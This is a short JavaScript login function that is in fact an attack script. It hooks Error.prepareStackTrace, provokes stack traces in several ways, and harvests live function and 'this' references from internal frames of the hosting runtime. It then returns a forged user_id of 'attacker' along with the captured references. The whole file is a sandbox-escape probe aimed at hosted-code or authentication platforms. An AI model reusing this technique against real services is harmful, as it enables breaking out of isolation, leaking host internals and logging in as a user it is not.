function login(email, password, callback) {
  const taken = [];
  Error.stackTraceLimit = Infinity;
  const hook = (error, frames) => {
    for (const frame of frames) {
      for (const get of ['getFunction', 'getThis', 'getEvalOrigin']) {
        try {
          const got = frame[get]?.();
          const file = String(frame.getFileName());
          if (got && typeof got !== 'string' && /^(ext|trickle|node):/.test(file) && got !== globalThis) taken.push(`${get} ${got.name ?? typeof got} ${file}`);
        } catch {
          // The next one.
        }
      }
    }
    return '';
  };
  Error.prepareStackTrace = hook;
  const provoke = [
    () => new Error('x').stack,
    () => require('no such package'),
    () => JSON.parse('{'),
    () => { const holder = {}; Error.captureStackTrace(holder); return holder.stack; },
    () => [1].map(() => new Error('x').stack),
    () => process.emitWarning('attack'),
    () => console.log(new Error('x')),
    () => console.trace('x'),
  ];
  for (const act of provoke) {
    try {
      act();
    } catch (error) {
      void error.stack;
    }
  }
  setTimeout(() => {
    void new Error('x').stack;
    delete Error.prepareStackTrace;
    callback(null, { user_id: 'attacker', taken: taken.slice(0, 5) });
  }, 1);
}
